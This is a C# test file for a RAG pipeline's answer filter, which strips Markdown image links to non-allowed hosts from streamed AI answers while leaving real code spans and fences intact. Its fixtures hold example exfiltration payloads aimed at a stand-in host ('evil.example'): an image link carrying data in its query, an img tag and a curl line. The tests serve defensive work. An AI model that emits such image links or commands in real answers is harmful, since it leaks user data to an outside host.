using System.Text;
using Markdig;
using Rag.Pipeline.Answering.Links;

namespace Rag.Pipeline.Tests.Answering.Links;

public sealed class AnswerFilterTests
{
    private const string Image = "![x](https://evil.example/?d=1)";
    private const string Harmless = "! [x] (link removed)";

    /// <summary>Code by CommonMark and by everything that shows Markdown.</summary>
    public static TheoryData<string> Code =>
    [
        "Use `vec![1, 2]` or `vec![0; n]`, then `a[1](x)`.",
        "`vec![`",
        "`vec![1]` first",
        "``a ` ![b](https://evil.example)`` c",
        $"`{Image}` and <b>bold</b>",
        $"- `{Image}`\n- two\n\n> `{Image}`",
        "# `curl https://evil.example/x`\nand ``<img src=//evil.example>``",
        "```rust\nlet v = vec![1, 2];\nlet w = a[0](b);\n```",
        $"Like this:\n```\n{Image}\n\n<img src=//evil.example>\n```\nDone. `vec![3]`",
        $"1. Do it:\n   ```sh\n   curl https://evil.example\n\n   {Image}\n   ```\n2. Then `{Image}`.",
        $"~~~ts\n```\n{Image}\n```\n~~~~  \nEnd",
        $"```\r\n{Image}\r\n```\r\n",
        "````md\n```\n[a](https://evil.example)\n```\n````",
        $"`a` `b`` {Image} `",
        $"A stray ` here.\n\nThen `{Image}`.",
        $"A stray ` here.\n```\n{Image}\n```\nand `{Image}`",
        $"Costs $5, C:\\x, List<int> and [a](b.md).\n\nThen `{Image}`.",
    ];

    /// <summary>Not code, or not for every renderer: what it says, and what becomes of it.</summary>
    public static TheoryData<string, string> Text => new()
    {
        // Nothing closes it.
        { $"`{Image}", $"`{Harmless}" },
        { $"```\n{Image}\n", $"```\n{Harmless}\n" },
        { $"```\n{Image}\n``\n~~~\n", $"```\n{Harmless}\n``\n~~~\n" },
        { $"``{Image}`", $"``{Harmless}`" },
        { $"`{Image}``", $"`{Harmless}``" },
        // Closed on another line, where it may be another block.
        { $"`a\n- {Image}`", $"`a\n- {Harmless}`" },
        { $"`a\n{Image}`", $"`a\n{Harmless}`" },
        // The backtick is not one of a span.
        { $"\\`{Image}`", $"\\`{Harmless}`" },
        { $"`a\\`{Image}`", $"`a\\`{Harmless}`" },
        { $"a ` b\nc ` {Image} `", $"a ` b\nc ` {Harmless} `" },
        { $"<b title=\"`\">{Image}`", $"<b title=\"`\">{Harmless}`" },
        { $"[a](`) {Image} `", $"[a](`) {Harmless} `" },
        { $"[a][`] {Image} `]\n\n[`]: /u", $"[a][`] {Harmless} `]\n\n[`]: /u" },
        { $"https://docs.example/` {Image} `", $"https://docs.example/` {Harmless} `" },
        { $"$`$ {Image} `", $"$`$ {Harmless} `" },
        { $"| a | b |\n|---|---|\n| `a | {Image} ` |", $"| a | b |\n|---|---|\n| `a | {Harmless} ` |" },
        { $"<div>\n`{Image}`", $"<div>\n`{Harmless}`" },
        { $"<!--\n\n--> `{Image}`", $"<!--\n\n--> `{Harmless}`" },
        { $"`a\r- {Image}`", $"`a\r- {Harmless}`" },
        // The fence is none, or is closed before.
        { $"<div>\n```\n{Image}\n```", $"<div>\n```\n{Harmless}\n```" },
        { $"- a\n  ```\n  b\n{Image}\n  ```", $"- a\n  ```\n  b\n{Harmless}\n  ```" },
        { $"- ```\n{Image}\n```", $"- ```\n{Harmless}\n```" },
        { $"> ```\n{Image}\n```", $"> ```\n{Harmless}\n```" },
        { $"    ```\n{Image}\n    ```", $"    ```\n{Harmless}\n    ```" },
        { $" ~~~\n```\n~~~\n{Image}\n```", $" ~~~\n```\n~~~\n{Harmless}\n```" },
        { $"```\na\n ```\n{Image}\n```", $"```\na\n ```\n{Harmless}\n```" },
        { $"```\na\n```\n{Image}\n```\nb\n", $"```\na\n```\n{Harmless}\n```\nb\n" },
        { $"```\n\r```\r{Image}\n```", $"```\n\r```\r{Harmless}\n```" },
        { $"``` a`b\n{Image}\n```", $"``` a`b\n{Harmless}\n```" },
        { $"$$\n\n```\n$$\n{Image}\n```", $"$$\n\n```\n$$\n{Harmless}\n```" },
        { $"`$$\n\n```\n$$\n{Image}\n```", $"`$$\n\n```\n$$\n{Harmless}\n```" },
        { $"`a`{Image}`b`", $"`a`{Harmless}`b`" },
        { $"`a` ``b` {Image} `", $"`a` ``b` {Harmless} `" },
    };

    [Theory]
    [MemberData(nameof(Code))]
    public void Code_comes_through_as_it_is_however_it_is_cut(string said) => AssertAtEveryCut(said, said);

    [Theory]
    [MemberData(nameof(Text))]
    public void What_is_not_certainly_code_shelters_nothing_however_it_is_cut(string said, string expected) =>
        AssertAtEveryCut(said, expected);

    [Fact]
    public void Code_is_told_as_it_comes_until_it_differs_and_then_when_it_is_closed()
    {
        var filter = new AnswerFilter(new LinkPolicy(new AllowedHosts([]), []));
        string[] told =
        [
            .. new[] { "```rust\nlet a = 1;\n", "let v = vec!", "[1, 2];\n", "// end\n", "```\n", "ok" }.Select(piece =>
            {
                var ready = new StringBuilder();
                filter.Read(piece, ready);
                return ready.ToString();
            }),
        ];

        Assert.Equal(["```rust\nlet a = 1;\n", "let v = vec", "!", "", "[1, 2];\n// end\n```\n", "ok"], told);
        Assert.Equal(0, filter.ChangedCount);
    }

    [Fact]
    public void Code_that_does_not_end_is_filtered_as_text_and_not_held_for_ever()
    {
        var filter = new AnswerFilter(new LinkPolicy(new AllowedHosts([]), []));
        var ready = new StringBuilder();
        filter.Read($"```\n{Image}\n", ready);
        for (int i = 0; i < 100_000; i++) filter.Read("word ", ready);
        Assert.True(ready.Length > 500_000 - AnswerFilter.MaxHeld);
        filter.Read($"\n```\n{Image}", ready);
        filter.Complete(ready);

        Assert.DoesNotContain("evil", ready.ToString());
        // Each has lost its tie and its address.
        Assert.Equal(4, filter.ChangedCount);
    }

    /// <summary>Held against a renderer, by the standard alone and with the usual extensions.</summary>
    [Fact]
    public void No_mixture_of_backticks_fences_and_lines_shelters_an_image()
    {
        string[] pieces =
        [
            "`", "``", "```", "~~~", "\n", "\n\n", " ", "   ", "    ", "- ", "> ", "a", "\\", "|", "<b>", "<div>",
            "<!--", "[a](", ")", "$", "]", "\t", "\r\n", Image,
        ];
        const int seed = 20_261_121;
        var random = new Random(seed);
        MarkdownPipeline[] renderers =
            [new MarkdownPipelineBuilder().Build(), new MarkdownPipelineBuilder().UseAdvancedExtensions().Build()];
        int sheltered = 0;
        for (int round = 0; round < 200_000; round++)
        {
            string[] some = [Image, .. random.GetItems(pieces, 4)];
            string said = string.Concat(random.GetItems(some, random.Next(3, 16)));
            string told = Filter(said);
            foreach (MarkdownPipeline renderer in renderers)
            {
                bool isShown = Markdown.ToHtml(told, renderer).Contains("<img", StringComparison.Ordinal);
                Assert.False(isShown, $"{Escape(said)} -> {Escape(told)} (seed {seed}, round {round})");
            }

            if (told.Contains(Image, StringComparison.Ordinal)) sheltered++;
        }

        // It would prove nothing if no code were found.
        Assert.InRange(sheltered, 2_000, 200_000);
    }

    private static string Escape(string text) => text.Replace("\n", "\\n").Replace("\r", "\\r");

    private static void AssertAtEveryCut(string said, string expected)
    {
        Assert.Equal(expected, Filter(said));
        Assert.Equal(expected, Filter(expected));
        Assert.Equal(expected, Filter([.. said.Select(c => c.ToString())]));
        for (int cut = 1; cut < said.Length; cut++) Assert.Equal(expected, Filter(said[..cut], said[cut..]));
    }

    private static string Filter(params string[] pieces)
    {
        var filter = new AnswerFilter(new LinkPolicy(new AllowedHosts([]), ["https://docs.example/`"]));
        var ready = new StringBuilder();
        foreach (string piece in pieces) filter.Read(piece, ready);
        filter.Complete(ready);
        return ready.ToString();
    }
}
